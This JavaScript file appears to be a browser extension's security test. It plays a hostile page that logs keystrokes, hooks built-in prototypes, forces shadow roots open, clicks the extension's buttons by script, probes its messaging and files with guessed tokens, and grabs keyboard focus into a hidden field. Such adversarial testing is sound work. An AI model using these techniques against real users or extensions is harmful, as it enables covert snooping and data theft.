// What a hostile page's script does, as one function to be run in the page before anything else of it. It keeps what it
// got hold of in `window.loot`.

/** @param {string} home the extension's origin, as an attacker may know it (Chrome: the id of the store) */
export function attack(home) {
  const loot = { keys: [], texts: [], messages: [], frames: [], got: [], errors: 0 };
  window.loot = loot;
  const quietly = (run) => {
    try {
      return run();
    } catch {
      loot.errors += 1;
      return undefined;
    }
  };

  // Everything that is typed or said anywhere it can hear.
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'compositionend', 'paste', 'change']) {
    const listen = (event) => loot.keys.push(`${event.key ?? ''}${event.data ?? ''}${event.target?.value ?? ''}`);
    window.addEventListener(type, listen, { capture: true });
  }
  window.addEventListener('message', (event) => loot.messages.push(JSON.stringify(event.data) ?? ''), true);

  // Prototypes, in the hope that the extension's code runs on them.
  const steal = (object, name) => {
    const own = object[name];
    object[name] = function (...args) {
      for (const one of args) if (typeof one === 'string') loot.texts.push(one);
      return own.apply(this, args);
    };
  };
  for (const [object, name] of [
    [JSON, 'parse'],
    [JSON, 'stringify'],
    [String.prototype, 'replace'],
    [Array.prototype, 'push'],
    [Element.prototype, 'attachShadow'],
    [Element.prototype, 'setAttribute'],
    [Node.prototype, 'appendChild'],
    [window, 'fetch'],
    [window, 'postMessage'],
  ]) {
    if (object !== Array.prototype) quietly(() => steal(object, name));
  }
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    return attachShadow.call(this, { ...options, mode: 'open' });
  };

  const roots = () => {
    const found = [];
    const walk = (node) => {
      for (const element of node.querySelectorAll('*')) {
        if (!element.shadowRoot) continue;
        found.push(element.shadowRoot);
        walk(element.shadowRoot);
      }
    };
    walk(document);
    return found;
  };
  const look = () => {
    for (const root of roots()) {
      for (const frame of root.querySelectorAll('iframe')) loot.frames.push(frame.src);
      for (const field of root.querySelectorAll('input, textarea')) loot.texts.push(field.value);
      loot.texts.push(root.textContent);
    }
    for (const frame of document.querySelectorAll('iframe:not([data-mine])')) loot.frames.push(frame.src);
    for (let i = 0; i < window.length; i++) loot.frames.push(quietly(() => String(window[i].location)) ?? 'a window');
    for (const { name } of performance.getEntries()) loot.texts.push(name);
    for (const [name, ranges] of CSS.highlights ?? [])
      loot.texts.push(name, ...[...ranges].map((range) => typeof range));
    for (const key of Object.keys(window)) if (/qingdu|chrome$|browser$/i.test(key)) loot.texts.push(key);
    for (const { name, value } of document.documentElement.attributes) loot.texts.push(`${name}=${value}`);
  };
  window.attacks = {
    look,

    /** Presses every button of ours by script, in place and taken out of our shadow root. */
    press() {
      let pressed = 0;
      for (const root of roots()) {
        for (const button of root.querySelectorAll('button')) {
          pressed += 1;
          const options = { bubbles: true, composed: true, cancelable: true };
          for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
            button.dispatchEvent(new MouseEvent(type, options));
          button.click();
          button.focus();
          button.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', ...options }));
          const place = button.nextSibling;
          const parent = button.parentNode;
          document.body.append(button);
          button.click();
          parent.insertBefore(button, place);
        }
      }
      return pressed;
    },

    /** Asks for everything the extension has. */
    async ask() {
      const runtimes = [window.chrome?.runtime, window.browser?.runtime].filter(Boolean);
      for (const runtime of runtimes) {
        for (const name of ['work.open', 'composer.claim', 'page.describe', 'model.load']) {
          const answer = await Promise.race([
            Promise.resolve(quietly(() => runtime.sendMessage(new URL(home).host, { qingdu: name, args: {} }))),
            new Promise((done) => setTimeout(done, 300)),
          ]).catch(() => undefined);
          if (answer !== undefined) loot.got.push(JSON.stringify(answer));
        }
      }
      for (const path of ['manifest.json', 'model/zh.model', 'sidepanel.html', 'popup.html', 'background.js']) {
        const text = await fetch(home + path).then(
          (response) => response.text(),
          () => undefined,
        );
        if (text !== undefined) loot.got.push(`${path}: ${text.slice(0, 60)}`);
      }
      const names = (await indexedDB.databases?.()) ?? [];
      loot.got.push(...names.map(({ name }) => `database ${name}`));
      loot.got.push(
        ...Object.keys(localStorage),
        ...Object.keys(sessionStorage),
        ...((await window.caches?.keys().catch(() => [])) ?? []),
      );
    },

    /** Frames pages of ours and talks to them. */
    async frame() {
      for (const path of ['composer.html', 'composer.html#token=guess', 'sidepanel.html?tab=1', 'popup.html']) {
        const frame = document.createElement('iframe');
        frame.dataset.mine = '';
        frame.src = home + path;
        document.body.append(frame);
        await new Promise((done) => setTimeout(done, 250));
        for (const name of ['work.open', 'note.save', 'draft.save'])
          frame.contentWindow?.postMessage({ qingdu: name, args: { token: 'guess' } }, '*');
        const inside = quietly(() => frame.contentDocument?.body?.textContent);
        if (inside) loot.got.push(`frame ${path}: ${inside}`);
        frame.remove();
      }
      for (const name of ['highlights.changed', 'view.set', 'composer.closed']) {
        window.postMessage({ qingdu: name, args: { view: 'served', highlights: [], id: null } }, '*');
        document.dispatchEvent(new CustomEvent(name, { detail: { qingdu: name } }));
      }
    },

    /** Takes the keyboard again and again, into a field nobody sees. */
    grab(times, pauseMs) {
      const field = document.createElement('input');
      field.style.cssText = 'position: fixed; top: 0; left: 0; opacity: 0';
      document.body.append(field);
      window.grabbed = field;
      let left = times;
      const again = setInterval(() => {
        if (left-- <= 0) clearInterval(again);
        else field.focus();
      }, pauseMs);
    },
  };
}
